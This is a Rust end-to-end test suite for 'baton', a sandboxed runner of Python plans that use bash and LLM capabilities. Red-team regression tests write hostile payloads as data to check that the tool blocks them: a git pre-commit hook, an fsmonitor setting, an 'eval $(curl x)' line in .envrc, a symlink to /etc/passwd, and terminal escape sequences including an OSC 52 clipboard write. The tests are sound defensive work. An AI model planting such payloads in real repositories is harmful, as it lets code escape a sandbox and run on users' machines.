//! End-to-end tests of the host capabilities through the real `baton` binary: grants, `bash` in
//! the sandbox, `llm` with the script provider and budgets, inputs and `main`, workspaces and
//! run directories, and the limits that end a run while a command is running.

mod support;

use std::time::{Duration, Instant};

use serde_json::json;
use support::*;

#[test]
fn the_example_plan_repairs_its_script_offline() {
    let scratch = Scratch::new("example");
    let run_dir = scratch.run_dir();
    let llm = format!("script:{}", repo("plans/examples/repair.llm.json"));
    let output = baton_in(
        scratch.path(),
        &[
            "run",
            &repo("plans/examples/repair.py"),
            "--grant",
            "bash,llm",
            "--llm",
            &llm,
            "--run-dir",
            run_dir.to_str().unwrap(),
            "--quiet",
        ],
    );
    assert_exit(&output, 0);
    let out = stdout(&output);
    assert!(out.contains("before: FAIL"), "{out}");
    assert!(out.contains("attempt 1: PASS"), "{out}");
    assert!(out.ends_with("Hello, Plans!\nHello, Models!\n"), "{out}");
    assert_eq!(
        read_json(&run_dir.join("result.json")),
        json!({"passed": true, "greeting": ["Hello, Plans!", "Hello, Models!"]})
    );
    let figures = read_json(&run_dir.join("figures.json"));
    assert_eq!(figures["outcome"]["status"], "success");
    assert_eq!(figures["host_calls"]["llm"]["calls"], 1);
    assert_eq!(figures["host_calls"]["llm"]["input_tokens"], 120);
    assert_eq!(figures["llm"]["output_tokens"], 40);
    assert!(figures["host_calls"]["bash"]["calls"].as_u64().unwrap() >= 7);
    let script = std::fs::read_to_string(run_dir.join("workspace/greet.sh")).unwrap();
    assert!(script.contains("echo \"Hello, $name!\""), "{script}");
    let patch = std::fs::read_to_string(run_dir.join("changes.patch")).unwrap();
    assert!(
        patch.contains("greet.sh") && patch.contains("test.sh"),
        "{patch}"
    );
    assert!(run_dir.join("plan.py").is_file() && run_dir.join("plan.sha256").is_file());
    let log = std::fs::read_to_string(run_dir.join("log.txt")).unwrap();
    assert_eq!(log, "test.sh exited with 1\ntest.sh exited with 0\n");
}

#[test]
fn capabilities_must_be_granted_before_anything_runs() {
    let scratch = Scratch::new("grants");
    let plan = "print('started')\nfrom baton import bash, llm\nbash('true')\nllm('hi')\n";
    let output = run_plan(&scratch, plan, &[]);
    assert_exit(&output, 2);
    let err = stderr(&output);
    assert!(err.contains("needs `bash`, `llm`"), "{err}");
    assert!(err.contains("granted: nothing"), "{err}");
    assert!(err.contains("--grant bash,llm"), "{err}");
    assert_eq!(
        stdout(&output),
        "",
        "nothing may run before the grant check"
    );
    let output = run_plan(&scratch, plan, &["--grant", "llm"]);
    assert_exit(&output, 2);
    let err = stderr(&output);
    assert!(
        err.contains("`bash` is not granted (granted: `llm`)"),
        "{err}"
    );
    // A plan that uses nothing needs nothing.
    let output = run_plan(&scratch, "print(1 + 1)\n", &[]);
    assert_exit(&output, 0);
    assert_eq!(stdout(&output), "2\n");
}

#[test]
fn bash_results_have_their_fields_and_str() {
    let scratch = Scratch::new("bash-result");
    let plan = r#"
from baton import bash
r = bash("echo out; echo err >&2; exit 3")
print(repr(r.stdout), repr(r.stderr), r.returncode, r.ok, r.timed_out)
print(repr(r.output), repr(str(r)))
ok = bash("cat", input="fed on stdin")
print(ok.ok, ok.stdout, f"{ok}")
print(bash("pwd; echo $HOME").stdout.split())
"#;
    let output = run_plan(&scratch, plan, &["--grant", "bash"]);
    assert_exit(&output, 0);
    assert_eq!(
        stdout(&output),
        "'out\\n' 'err\\n' 3 False False\n\
         'out\\nerr\\n' 'out\\nerr\\n'\n\
         True fed on stdin fed on stdin\n\
         ['/workspace', '/workspace']\n"
    );
}

#[test]
fn bash_arguments_are_checked_as_python_would() {
    let scratch = Scratch::new("bash-args");
    let plan = r#"
from baton import bash
# Through another name, which the checker does not follow: these reach the runtime's own
# checks (B601-B603 reject the same calls of `bash` before the run).
sh = bash
def attempt(f):
    try:
        f()
        print("no error")
    except Exception as e:
        print(repr(e))
attempt(lambda: sh())
attempt(lambda: sh(1))
attempt(lambda: sh("true", 5))
attempt(lambda: sh("true", shell=True))
attempt(lambda: sh("true", command="x"))
attempt(lambda: sh("true", timeout="soon"))
attempt(lambda: sh("true", timeout=0))
attempt(lambda: sh("true", input=3))
"#;
    let output = run_plan(&scratch, plan, &["--grant", "bash"]);
    assert_exit(&output, 0);
    assert_eq!(
        stdout(&output),
        "TypeError(\"bash() missing 1 required positional argument: 'command'\")\n\
         TypeError(\"bash() argument 'command' must be str, not int\")\n\
         TypeError('bash() takes 1 positional argument but 2 were given')\n\
         TypeError(\"bash() got an unexpected keyword argument 'shell'\")\n\
         TypeError(\"bash() got multiple values for argument 'command'\")\n\
         TypeError(\"bash() argument 'timeout' must be int or float, not str\")\n\
         ValueError('bash() timeout must be more than 0 and at most 86400 seconds, not 0')\n\
         TypeError(\"bash() argument 'input' must be str, not int\")\n"
    );
}

#[test]
fn a_command_past_its_timeout_is_reported_not_raised() {
    let scratch = Scratch::new("bash-timeout");
    let plan = r#"
from baton import bash
r = bash("echo started; sleep 20; echo never", timeout=0.5)
print(r.timed_out, r.ok, r.stdout)
"#;
    let output = run_plan(&scratch, plan, &["--grant", "bash"]);
    assert_exit(&output, 0);
    assert_eq!(stdout(&output), "True False started\n\n");
    let figures = read_json(&scratch.run_dir().join("figures.json"));
    assert_eq!(figures["host_calls"]["bash"]["timed_out"], 1);
}

#[test]
fn the_run_timeout_ends_a_running_command_and_its_tree() {
    let scratch = Scratch::new("run-timeout");
    // A duration nobody else uses, to find the processes afterwards.
    let marker = format!("39.{}", std::process::id());
    let plan = format!(
        "from baton import bash\nbash('(setsid sleep {marker} &) ; sleep {marker}; echo late > late.txt')\n"
    );
    let started = Instant::now();
    let output = run_plan(&scratch, &plan, &["--grant", "bash", "--timeout", "1"]);
    assert_exit(&output, 4);
    assert!(stderr(&output).contains("--timeout"), "{}", stderr(&output));
    // A hang guard, not a speed assertion: the run must not wait for the command.
    assert!(started.elapsed() < Duration::from_secs(30));
    let mut left = processes_with(&format!("sleep {marker}"));
    for _ in 0..50 {
        if left.is_empty() {
            break;
        }
        std::thread::sleep(Duration::from_millis(100));
        left = processes_with(&format!("sleep {marker}"));
    }
    assert!(left.is_empty(), "processes outlived the run: {left:?}");
    assert!(!scratch.run_dir().join("workspace/late.txt").exists());
    let figures = read_json(&scratch.run_dir().join("figures.json"));
    assert_eq!(figures["outcome"]["status"], "error");
}

#[test]
fn budgets_refuse_calls_before_they_are_sent() {
    let scratch = Scratch::new("budget");
    let script = scratch.write(
        "replies.json",
        r#"{"rules": [{"when": "hello", "reply": "hi there", "usage": {"input_tokens": 5, "output_tokens": 2}}], "default": "what?"}"#,
    );
    let llm = format!("script:{script}");
    let caught = r#"
from baton import llm, BudgetExceeded
print(llm("hello"), "|", llm("something else"))
try:
    llm("hello again")
    print("not refused")
except BudgetExceeded as e:
    print("refused:", "max_calls" in str(e) or "calls" in str(e))
"#;
    let output = run_plan(
        &scratch,
        caught,
        &["--grant", "llm", "--llm", &llm, "--max-llm-calls", "2"],
    );
    assert_exit(&output, 0);
    assert_eq!(stdout(&output), "hi there | what?\nrefused: True\n");
    let figures = read_json(&scratch.run_dir().join("figures.json"));
    assert_eq!(figures["llm"]["calls"], 2);

    let scratch = Scratch::new("budget-uncaught");
    let output = run_plan(
        &scratch,
        "from baton import llm\nfor i in range(5):\n    print(llm(f'hello {i}', max_tokens=10))\n",
        &["--grant", "llm", "--llm", &llm, "--max-tokens", "60"],
    );
    assert_exit(&output, 4);
    let err = stderr(&output);
    let last = err.lines().last().unwrap_or_default();
    assert!(last.starts_with("BudgetExceeded: "), "{err}");
    assert!(last.contains("tokens"), "{err}");
    // Every call that ran fits the cap; the refused one was never answered.
    let figures = read_json(&scratch.run_dir().join("figures.json"));
    let spent = figures["llm"]["input_tokens"].as_u64().unwrap()
        + figures["llm"]["output_tokens"].as_u64().unwrap();
    assert!(spent <= 60, "{figures}");
    assert!(stdout(&output).lines().count() < 5);
}

#[test]
fn llm_arguments_and_messages_reach_the_provider() {
    let scratch = Scratch::new("llm-args");
    let script = scratch.write(
        "replies.json",
        r#"{"rules": [{"when": "be brief", "reply": "system seen"}, {"when": "second turn", "reply": "messages seen"}]}"#,
    );
    let llm = format!("script:{script}");
    let plan = r#"
from baton import llm, LLMError
print(llm("question", system="be brief"))
print(llm([{"role": "user", "content": "first"}, {"role": "assistant", "content": "ok"},
           {"role": "user", "content": "second turn"}], temperature=0.0, stop=["\n"]))
ask = llm  # another name: the runtime's checks, not the checker's (B603)
for bad in [lambda: ask(3), lambda: llm("x", max_tokens=0), lambda: llm([{"role": "user"}])]:
    try:
        bad()
    except (TypeError, ValueError) as e:
        print(repr(e))
try:
    llm("nothing matches")
except LLMError as e:
    print("LLMError:", "no rule matching" in str(e))
"#;
    let output = run_plan(&scratch, plan, &["--grant", "llm", "--llm", &llm]);
    assert_exit(&output, 0);
    assert_eq!(
        stdout(&output),
        "system seen\nmessages seen\n\
         TypeError(\"llm() argument 'prompt' must be str or a list of messages, not int\")\n\
         ValueError('llm() max_tokens must be a positive int, not 0')\n\
         TypeError(\"llm() prompt message 0 must be a dict with 'role' and 'content', not dict\")\n\
         LLMError: True\n"
    );
}

#[test]
fn inputs_reach_the_plan_and_main_gives_the_result() {
    let scratch = Scratch::new("inputs");
    let input = scratch.write("inputs.json", r#"{"a": 1, "b": "from file"}"#);
    let plan = r#"
from baton import inputs
print(sorted(inputs.items()))
def main(a, b, c, d="default"):
    return {"sum": a + sum(c), "b": b, "d": d}
"#;
    let output = run_plan(
        &scratch,
        plan,
        &[
            "--input",
            &input,
            "--set",
            "b=from flag",
            "--set",
            "c=[2, 3]",
        ],
    );
    assert_exit(&output, 0);
    assert_eq!(
        stdout(&output),
        "[('a', 1), ('b', 'from flag'), ('c', [2, 3])]\n"
    );
    assert_eq!(
        read_json(&scratch.run_dir().join("result.json")),
        json!({"sum": 6, "b": "from flag", "d": "default"})
    );
    assert_eq!(
        read_json(&scratch.run_dir().join("inputs.json")),
        json!({"a": 1, "b": "from flag", "c": [2, 3]})
    );

    // main's parameters are checked as a call's are.
    let scratch = Scratch::new("inputs-missing");
    let output = run_plan(&scratch, "def main(x):\n    return x\n", &[]);
    assert_exit(&output, 1);
    assert!(
        stderr(&output)
            .ends_with("TypeError: main() missing 1 required positional argument: 'x'\n"),
        "{}",
        stderr(&output)
    );
    // A result JSON cannot hold is a TypeError in the plan.
    let scratch = Scratch::new("inputs-result");
    let output = run_plan(&scratch, "def main():\n    return {1, 2}\n", &[]);
    assert_exit(&output, 1);
    assert!(
        stderr(&output).contains("TypeError: Object of type set is not JSON serializable"),
        "{}",
        stderr(&output)
    );
    let output = baton_in(
        scratch.path(),
        &["run", "plan.py", "--input", "missing.json"],
    );
    assert_exit(&output, 2);
    assert!(
        stderr(&output).contains("missing.json"),
        "{}",
        stderr(&output)
    );
}

#[test]
fn a_workspace_copy_is_written_back_only_when_the_run_succeeds() {
    let scratch = Scratch::new("workspace");
    let user = scratch.path().join("project");
    std::fs::create_dir_all(&user).unwrap();
    std::fs::write(user.join("notes.txt"), "one\n").unwrap();
    let user_arg = user.to_str().unwrap();

    let failing = "from baton import bash\nbash('echo two >> notes.txt; echo new > added.txt')\nraise ValueError('changed my mind')\n";
    let output = run_plan(
        &scratch,
        failing,
        &["--grant", "bash", "--workspace", user_arg],
    );
    assert_exit(&output, 1);
    assert_eq!(
        std::fs::read_to_string(user.join("notes.txt")).unwrap(),
        "one\n"
    );
    assert!(!user.join("added.txt").exists());
    let patch = std::fs::read_to_string(scratch.run_dir().join("changes.patch")).unwrap();
    assert!(
        patch.contains("+two") && patch.contains("added.txt"),
        "{patch}"
    );

    std::fs::remove_dir_all(scratch.run_dir()).unwrap();
    let succeeding =
        "from baton import bash\nbash('echo two >> notes.txt; echo new > added.txt')\n";
    let output = run_plan(
        &scratch,
        succeeding,
        &["--grant", "bash", "--workspace", user_arg],
    );
    assert_exit(&output, 0);
    assert_eq!(
        std::fs::read_to_string(user.join("notes.txt")).unwrap(),
        "one\ntwo\n"
    );
    assert_eq!(
        std::fs::read_to_string(user.join("added.txt")).unwrap(),
        "new\n"
    );
    let figures = read_json(&scratch.run_dir().join("figures.json"));
    assert_eq!(figures["workspace"]["written_back"], true);
}

#[test]
fn a_run_directory_is_never_shared() {
    let scratch = Scratch::new("run-dir");
    let output = run_plan(&scratch, "print('first')\n", &[]);
    assert_exit(&output, 0);
    // Private to the user: its workspace and journal are nobody else's business.
    use std::os::unix::fs::PermissionsExt as _;
    let mode = std::fs::metadata(scratch.run_dir())
        .unwrap()
        .permissions()
        .mode();
    assert_eq!(mode & 0o777, 0o700);
    let output = run_plan(&scratch, "print('second')\n", &[]);
    assert_exit(&output, 2);
    assert!(
        stderr(&output).contains("is not empty"),
        "{}",
        stderr(&output)
    );
    // Without --run-dir, each run gets a new directory under $BATON_RUNS_DIR.
    scratch.write("p.py", "print('x')\n");
    for _ in 0..2 {
        assert_exit(&baton_in(scratch.path(), &["run", "p.py"]), 0);
    }
    let runs = std::fs::read_dir(scratch.path().join("runs"))
        .unwrap()
        .count();
    assert_eq!(runs, 2);
}

#[test]
fn log_lines_go_to_the_run_log_and_stderr() {
    let scratch = Scratch::new("log");
    let output = run_plan(
        &scratch,
        "from baton import log\nlog('step', 1, [2])\nprint('out')\n",
        &[],
    );
    assert_exit(&output, 0);
    assert_eq!(stdout(&output), "out\n");
    assert!(
        stderr(&output).contains("[log] step 1 [2]"),
        "{}",
        stderr(&output)
    );
    assert_eq!(
        std::fs::read_to_string(scratch.run_dir().join("log.txt")).unwrap(),
        "step 1 [2]\n"
    );
}

#[test]
fn sandbox_none_is_explicit_and_announced() {
    let scratch = Scratch::new("sandbox-none");
    let output = run_plan(
        &scratch,
        "from baton import bash\nprint(bash('echo $HOME').stdout.strip().endswith('workspace'))\n",
        &["--grant", "bash", "--sandbox", "none"],
    );
    assert_exit(&output, 0);
    assert_eq!(stdout(&output), "True\n");
    assert!(
        stderr(&output).contains("unsandboxed"),
        "{}",
        stderr(&output)
    );
}

#[test]
fn bad_configuration_is_a_usage_error_naming_the_key() {
    let scratch = Scratch::new("config");
    let config = scratch.write("bad.toml", "[grants]\nbash = true\nnetwork = true\n");
    let output = run_plan(&scratch, "print(1)\n", &["--config", &config]);
    assert_exit(&output, 2);
    assert!(stderr(&output).contains("network"), "{}", stderr(&output));
    // A configuration file grants only when named: one planted in the current directory (a
    // repository the user runs a plan in) is never read, whatever it says.
    scratch.write(
        "baton.toml",
        "[grants]\nbash = true\n[sandbox]\nmode = \"none\"\n",
    );
    let uses_bash = "from baton import bash\nprint(bash('echo ok').stdout, end='')\n";
    let output = run_plan(&scratch, uses_bash, &[]);
    assert_exit(&output, 2);
    assert!(
        stderr(&output).contains("granted: nothing"),
        "{}",
        stderr(&output)
    );
    let config = scratch.write("granted.toml", "[grants]\nbash = true\n");
    let output = run_plan(&scratch, uses_bash, &["--config", &config]);
    assert_exit(&output, 0);
    assert_eq!(stdout(&output), "ok\n");
    assert!(
        !stderr(&output).contains("unsandboxed"),
        "{}",
        stderr(&output)
    );
    let output = run_plan(&scratch, "print(1)\n", &["--grant", "network"]);
    assert_exit(&output, 2);
    assert!(
        stderr(&output).contains("unknown capability `network`"),
        "{}",
        stderr(&output)
    );
}

#[test]
fn sandbox_info_lists_the_layers() {
    let scratch = Scratch::new("sandbox-info");
    let output = baton_in(scratch.path(), &["sandbox-info"]);
    let out = stdout(&output);
    for layer in ["namespaces", "seccomp", "landlock"] {
        assert!(out.contains(layer), "{out}");
    }
    assert_exit(&output, 0);
}

#[test]
fn an_unused_sdk_import_needs_no_grant_and_is_warned_about() {
    let scratch = Scratch::new("unused-import");
    let plan = "from baton import bash, llm\nprint(bash('echo hi').stdout.strip())\n";
    let output = run_plan(&scratch, plan, &["--grant", "bash"]);
    assert_exit(&output, 0);
    assert_eq!(stdout(&output), "hi\n");
    let path = scratch.write("plan.py", plan);
    let output = baton_in(scratch.path(), &["check", &path]);
    assert_exit(&output, 0);
    let err = stderr(&output);
    assert!(
        err.contains("warning[B501]: `llm` is imported from baton but never used"),
        "{err}"
    );
    assert!(err.contains("passes the check"), "{err}");
    // Read anywhere (here only inside a function), it is needed.
    let plan = "from baton import llm\ndef ask():\n    return llm('x')\n";
    let output = run_plan(&Scratch::new("used-import"), plan, &[]);
    assert_exit(&output, 2);
    assert!(stderr(&output).contains("needs `llm`"));
}

#[test]
fn a_refused_grant_is_said_once() {
    let scratch = Scratch::new("refusal-once");
    let output = run_plan(&scratch, "from baton import bash\nbash('true')\n", &[]);
    assert_exit(&output, 2);
    let err = stderr(&output);
    assert_eq!(err.matches("not granted").count(), 1, "{err}");
}

#[test]
fn granting_llm_without_a_provider_is_refused_before_the_run() {
    let scratch = Scratch::new("no-provider");
    let plan = "from baton import bash, llm\nbash('echo ran > ran.txt')\nprint(llm('hi'))\n";
    let output = baton_in_env(
        scratch.path(),
        &[
            "run",
            &scratch.write("plan.py", plan),
            "--grant",
            "bash,llm",
            "--run-dir",
            scratch.run_dir().to_str().unwrap(),
        ],
        &[("BATON_LLM_MODEL", "")],
    );
    assert_exit(&output, 2);
    let err = stderr(&output);
    assert!(err.contains("no model provider is given"), "{err}");
    assert!(err.contains("--llm"), "{err}");
    assert!(!scratch.run_dir().join("workspace/ran.txt").exists());
}

#[test]
fn set_reads_python_literals_and_fuel_takes_e_notation() {
    let scratch = Scratch::new("set-literals");
    let plan = "from baton import inputs\nprint(repr(inputs['dry_run']), repr(inputs['n']))\n";
    let output = run_plan(
        &scratch,
        plan,
        &["--set", "dry_run=False", "--set", " n =3", "--fuel", "5e9"],
    );
    assert_exit(&output, 0);
    assert_eq!(stdout(&output), "False 3\n");
}

/// Red-team finding: with `--workspace` a git repository, a plan wrote `.git/hooks/pre-commit`
/// and set `core.fsmonitor`, and the user's next `git status` ran them unsandboxed. Paths other
/// tools run are held back from write-back, and so are links out of the workspace; the rest of
/// the run's changes are written back, and the patch and stderr say what was held.
#[test]
fn write_back_holds_back_what_other_tools_run_and_links_out() {
    let scratch = Scratch::new("protect");
    let repo = scratch.path().join("repo");
    std::fs::create_dir_all(repo.join(".git/hooks")).unwrap();
    std::fs::write(repo.join(".git/config"), "[core]\n\tbare = false\n").unwrap();
    std::fs::write(repo.join("README.md"), "hello\n").unwrap();
    let plan = r#"
from baton import bash
bash("printf '#!/bin/sh\\ntouch /tmp/pwned\\n' > .git/hooks/pre-commit && chmod +x .git/hooks/pre-commit")
bash("printf '\\tfsmonitor = /tmp/evil\\n' >> .git/config")
bash("echo 'eval $(curl x)' > .envrc")
bash("rm README.md && ln -s /etc/passwd README.md && ln -s /etc sub")
bash("echo fixed > fix.txt")
"#;
    let output = run_plan(
        &scratch,
        plan,
        &["--grant", "bash", "--workspace", repo.to_str().unwrap()],
    );
    assert_exit(&output, 0);
    assert!(!repo.join(".git/hooks/pre-commit").exists());
    assert_eq!(
        std::fs::read_to_string(repo.join(".git/config")).unwrap(),
        "[core]\n\tbare = false\n"
    );
    assert!(!repo.join(".envrc").exists());
    assert_eq!(
        std::fs::read_to_string(repo.join("README.md")).unwrap(),
        "hello\n"
    );
    assert!(std::fs::symlink_metadata(repo.join("sub")).is_err());
    // The rest of the run's work arrives.
    assert_eq!(
        std::fs::read_to_string(repo.join("fix.txt")).unwrap(),
        "fixed\n"
    );
    let err = stderr(&output);
    for held in [".git/hooks", ".git/config", ".envrc", "README.md", "sub"] {
        assert!(
            err.contains(&format!("not written back: `{held}")),
            "{held}: {err}"
        );
    }
    let patch = std::fs::read_to_string(scratch.run_dir().join("changes.patch")).unwrap();
    assert!(
        patch.contains("# held back from write-back (other tools run what is under `.git`"),
        "{patch}"
    );
}

#[test]
fn a_run_ends_with_a_summary_of_what_happened() {
    let scratch = Scratch::new("summary");
    let repo = scratch.path().join("repo");
    std::fs::create_dir_all(&repo).unwrap();
    let plan = "from baton import bash, parallel\nbash('echo new > new.txt')\nprint(parallel([lambda: 1]))\n";
    let output = run_plan(
        &scratch,
        plan,
        &[
            "--grant",
            "bash",
            "--workspace",
            repo.to_str().unwrap(),
            "--summary",
            "json",
        ],
    );
    assert_exit(&output, 0);
    assert_eq!(stdout(&output), "[1]\n", "the summary never goes to stdout");
    let err = stderr(&output);
    let summary: serde_json::Value =
        serde_json::from_str(err.lines().last().unwrap()).expect("one JSON line");
    assert_eq!(summary["outcome"]["status"], "success");
    assert_eq!(summary["commands"], 1);
    assert_eq!(summary["branches"]["run"], 1);
    assert_eq!(summary["files"]["status"], "written back");
    assert_eq!(summary["files"]["changed_paths"], 1);
    assert!(summary["run_dir"].as_str().unwrap().ends_with("run"));

    // For people: facts in lines, singular where it is one; before the traceback of a failure,
    // so stderr still ends with the exception.
    let scratch = Scratch::new("summary-human");
    let output = run_plan(
        &scratch,
        "from baton import bash\nbash('true')\nraise ValueError('no')\n",
        &["--grant", "bash"],
    );
    assert_exit(&output, 1);
    let err = stderr(&output);
    assert!(
        err.starts_with("[baton] the run raised an exception after "),
        "{err}"
    );
    assert!(err.contains("[baton]   1 command, 0 branches"), "{err}");
    assert!(err.ends_with("ValueError: no\n"), "{err}");
    // --quiet: no summary unless asked for.
    let scratch = Scratch::new("summary-quiet");
    let output = run_plan(&scratch, "print(1)\n", &["-q"]);
    assert_exit(&output, 0);
    assert_eq!(stderr(&output), "");
}

/// Red-team finding: `log()` lines and exception messages reached stderr with raw terminal
/// escape sequences (screen clears, OSC 52 clipboard writes, forged `[baton]` lines).
#[test]
fn plan_text_reaches_the_terminal_escaped() {
    let scratch = Scratch::new("escapes");
    let plan = "from baton import log\nlog('\\x1b[2J\\n[baton] the run succeeded')\nraise ValueError('\\x1b]52;c;cHduZWQ=\\x07')\n";
    let output = run_plan(&scratch, plan, &[]);
    assert_exit(&output, 1);
    let err = stderr(&output);
    assert!(!err.contains('\x1b') && !err.contains('\x07'), "{err:?}");
    assert!(
        err.contains("[log] \\x1b[2J\\x0a[baton] the run succeeded"),
        "{err}"
    );
    assert!(
        err.ends_with("ValueError: \\x1b]52;c;cHduZWQ=\\x07\n"),
        "{err}"
    );
}

/// Red-team finding: a value nested more than 128 levels crossing to the host was reported as
/// "the plan trapped: ... recursion limit exceeded"; a legal plan gets a Python exception.
#[test]
fn a_too_deep_value_crossing_to_the_host_is_a_value_error() {
    let scratch = Scratch::new("deep-prompt");
    let replies = scratch.write("replies.json", r#"{"rules": [], "default": "ok"}"#);
    let plan = r#"
from baton import llm
deep = []
for _ in range(200):
    deep = [deep]
try:
    llm([{"role": "user", "content": "hi", "extra": deep}])
except ValueError as e:
    print("ValueError:", e)
print(llm("shallow"))
"#;
    let output = run_plan(
        &scratch,
        plan,
        &["--grant", "llm", "--llm", &format!("script:{replies}")],
    );
    assert_exit(&output, 0);
    let out = stdout(&output);
    assert!(
        out.starts_with("ValueError: the arguments of llm() nest ")
            && out.contains("at most 128 levels\nok\n"),
        "{out}"
    );
}

/// Fuzzer finding (issue 23): a str holding a lone surrogate (`json.loads('"\\ud800"')`) reached
/// the host as JSON the host cannot read, and the run trapped. Text that leaves the plan must be
/// UTF-8: a command, a prompt or a log line with one raises UnicodeEncodeError, as CPython's
/// UTF-8 streams do, and the plan goes on.
#[test]
fn a_lone_surrogate_leaving_the_plan_is_a_unicode_encode_error() {
    let scratch = Scratch::new("surrogate");
    let replies = scratch.write("replies.json", r#"{"rules": [], "default": "ok"}"#);
    let plan = r#"
import json
from baton import bash, llm, log
lone = json.loads('"\\ud800"')
for call in [lambda: bash("echo " + lone), lambda: llm("hi" + lone),
             lambda: llm([{"role": "user", "content": lone}]), lambda: log("x", lone)]:
    try:
        call()
    except UnicodeEncodeError as e:
        print("UnicodeEncodeError:", e)
print(llm("fine"), bash("echo fine").output.strip())
"#;
    let output = run_plan(
        &scratch,
        plan,
        &["--grant", "bash,llm", "--llm", &format!("script:{replies}")],
    );
    assert_exit(&output, 0);
    let cannot = "'utf-8' codec can't encode character '\\ud800' in position";
    assert_eq!(
        stdout(&output),
        format!(
            "UnicodeEncodeError: {cannot} 5: surrogates not allowed\n\
             UnicodeEncodeError: {cannot} 2: surrogates not allowed\n\
             UnicodeEncodeError: {cannot} 0: surrogates not allowed\n\
             UnicodeEncodeError: {cannot} 2: surrogates not allowed\n\
             ok fine\n"
        )
    );
}
